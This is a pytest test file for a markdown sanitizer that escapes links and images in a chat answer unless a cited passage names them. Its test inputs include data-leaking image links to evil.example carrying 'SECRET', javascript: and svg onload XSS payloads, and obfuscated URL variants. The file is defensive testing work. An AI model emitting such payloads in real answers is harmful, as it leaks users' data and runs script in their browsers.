"""What a chat client shows of an answer loads and links nothing but what a cited passage names."""

import time

import pytest

from hopweave.apps.server.inert_markdown import inert
from hopweave.core.types import Passage

GUIDE = "https://a.example/guide"
CITED = [
    Passage("p", f"Read {GUIDE}, or [the rest](/rest.html#b). Call `handlers[name](event)`. Wiki: http://w.example/A_(b)."),
    Passage("q", "Put <a href='/x'> there. Never javascript:alert(1).", source="https://b.example/page"),
]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](http://evil.example/b.png?q=SECRET)", r"![x]\(http://evil.example/b.png?q=SECRET)"),
        ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
        (f"![x]({GUIDE}?q=SECRET) [1]", rf"![x]\({GUIDE}?q=SECRET) [1]"),
        ("[x](https://a.example/gui)", r"[x]\(https://a.example/gui)"),
        ("[x](https://a.example)", r"[x]\(https://a.example)"),
        ("[x]( <http://evil.example/a b>)", r"[x]\( <http://evil.example/a b>)"),
        ("[x](\nhttp://evil.example)", "[x]\\(\nhttp://evil.example)"),
        (f"[x]({GUIDE}<SECRET)", rf"[x]\({GUIDE}<SECRET)"),
        ("[1]: http://evil.example/\n\nIt is Ida [1].", "[1]\\: http://evil.example/\n\nIt is Ida [1]."),
        ("> - [a\nb]:\n> //evil.example 'title'", "> - [a\nb]\\:\n> //evil.example 'title'"),
        ("[x]: &#104;ttp://evil.example", r"[x]\: &#104;ttp://evil.example"),
        ("[x]: <http://evil.example/a b>", r"[x]\: <http://evil.example/a b>"),
        ("<img src=http://evil.example/?q=SECRET>", r"\<img src=http://evil.example/?q=SECRET>"),
        ("<a title='>' href='http://evil.example'>", r"\<a title='>' href='http://evil.example'>"),
        (r"\\<svg/onload=alert(1)>", r"\\\<svg/onload=alert(1)>"),
        ("[x](http://w.example/A_(b)SECRET)", r"[x]\(http://w.example/A_(b)SECRET)"),
    ],
)
def test_what_no_cited_passage_names_is_neither_loaded_nor_linked(text, shown):
    assert inert(text, CITED) == shown


@pytest.mark.parametrize(
    "text",
    [
        f"See [the guide]({GUIDE}) [1].",
        f"![the guide]( <{GUIDE}> )",
        f'[the guide]({GUIDE} "A title")',
        "See [the page](https://b.example/page).",
        "[the rest](/rest.html#b)",
        "[A](http://w.example/A_(b))",
        f"[g]: {GUIDE}\n[g]",
        "Call `handlers[name](event)`.",
        "Put <a href='/x'> there.",
        r"\<img src=x>",
        "It is Ida [1] (see below), or [2]: Otto, as [3]: says.",
        "[1]: the lid is open",
        "x[0]: int\ny[1]: str",
        "`<input type=text>` and a < b, c > d, <b>e</b>, http://c.example/",
        "",
    ],
)
def test_what_loads_nothing_or_is_named_by_a_cited_passage_stays_as_it_is(text):
    assert inert(text, CITED) == text


def test_what_only_other_passages_name_is_escaped_and_so_is_a_script_that_one_names():
    assert inert(f"[x]({GUIDE})", CITED[1:]) == rf"[x]\({GUIDE})"
    assert inert("[x](javascript:alert)", [Passage("p", "javascript:alert")]) == r"[x]\(javascript:alert)"


@pytest.mark.parametrize("piece", ["](", "](a(b", "]:", "[a]:", "\n[a]: ", "<a href=", "\\", "](<", "]( ", "> ", "[]:]:\n"])
def test_time_grows_no_faster_than_the_text(piece):
    def seconds(length):
        begun = time.process_time()
        inert(piece * (length // len(piece)), CITED)
        return time.process_time() - begun

    assert seconds(160_000) < 12 * max(0.05, seconds(40_000))
